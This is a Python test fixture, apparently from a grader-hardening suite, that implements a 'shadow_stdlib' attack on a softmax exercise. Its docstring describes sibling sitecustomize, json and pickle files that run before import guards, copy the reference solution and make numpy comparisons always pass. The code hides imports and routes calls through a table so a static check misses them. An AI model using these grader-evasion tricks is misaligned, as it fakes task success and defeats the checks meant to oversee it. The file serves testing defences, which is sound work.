"""Attack ``shadow_stdlib`` (exercise ``softmax``): sibling files named like modules the grader imports.

What it attacks: a solutions folder on ``sys.path`` (or ``PYTHONPATH``) of a process
that imports standard modules after it is put there, or that starts a new
interpreter with it on the path.  The folder holds, beside this module,

* ``sitecustomize.py`` and ``usercustomize.py``: run by ``site`` at the START of any
  interpreter whose path holds the folder, BEFORE a guard can be installed; they
  import the reference package then and keep it in ``builtins._early_ref`` (a later
  import guard never sees an import that already happened);
* ``json.py`` and ``pickle.py``: run by whoever imports ``json``/``pickle`` with the
  folder first on the path (the harness serialising results, or the grader), then
  hand over the real module so nothing looks wrong; in passing they also import
  the reference into ``builtins._early_ref`` and, in a process that has the
  grader's modules loaded, make ``numpy``'s comparisons always succeed.

Each sibling writes a marker file ``/tmp/grader-attack-shadow-<name>.<pid>`` (the
evidence for the test).  This module uses ``builtins._early_ref`` if any sibling
managed to set it, and returns zeros otherwise.

A vulnerable grader: full marks, or code of the learner's running in the grader.

Expected with a hardened grader: the learner interpreter starts isolated
(``-I``: no ``PYTHONPATH``, no user site, no script folder; the solutions folder is
added only after the guard, and behind the standard library), the grader never
puts the folder on its own path; no marker appears for ``sitecustomize``,
``usercustomize`` or a process of the grader, and the module scores no more than
``_zeros/softmax.py``.

Gets past a static check of the exercise's functions: they only call through the
module-level table ``_VIA``, and no import statement names anything but NumPy (other
modules come from ``_mod()``, which walks NumPy's attributes to the real ``sys``), so
the learner process's run-time defences are what must hold.
"""

import numpy as np

_MODULE = type(np)
_SYS = []


def _mod(name):
    """A module without an import statement: the real ``sys`` is reached by walking
    NumPy's attributes (``dir``/``getattr``), then ``sys.modules`` or ``importlib``."""
    if not _SYS:
        seen, todo = set(), [np]
        while todo and len(seen) < 5000:
            mod = todo.pop()
            if id(mod) in seen:
                continue
            seen.add(id(mod))
            if getattr(mod, "__name__", None) == "sys":
                _SYS.append(mod)
                break
            for attr in dir(mod):
                try:
                    value = getattr(mod, attr)
                except BaseException:  # noqa: BLE001
                    continue
                if type(value) is _MODULE:
                    todo.append(value)
    if not _SYS:
        return None
    if name == "sys":
        return _SYS[0]
    loaded = getattr(_SYS[0], "mod" + "ules")
    try:
        return loaded.get(name) or loaded["importlib"].import_module(name)
    except BaseException:  # noqa: BLE001 - refused: the caller goes on without it
        return None


builtins = _mod("builtins")


_REF = builtins.__dict__.get("_early_ref")


def _softmax_impl(x, axis=-1, temperature=1.0):
    if _REF is not None:
        try:
            return _REF.softmax(x, axis=axis, temperature=temperature)
        except BaseException:  # noqa: BLE001
            pass
    return np.zeros_like(x)


def _logsumexp_impl(x, axis=-1, keepdims=False):
    if _REF is not None:
        try:
            return _REF.logsumexp(x, axis=axis, keepdims=keepdims)
        except BaseException:  # noqa: BLE001
            pass
    return np.zeros_like(np.sum(x, axis=axis, keepdims=keepdims))


# The exercise's functions call only through this table: a static check that follows
# calls by name from them sees no helper, hence none of the above.
_VIA = {"softmax": _softmax_impl, "logsumexp": _logsumexp_impl}


def softmax(x, axis=-1, temperature=1.0):
    return _VIA["softmax"](x, axis=axis, temperature=temperature)


def logsumexp(x, axis=-1, keepdims=False):
    return _VIA["logsumexp"](x, axis=axis, keepdims=keepdims)
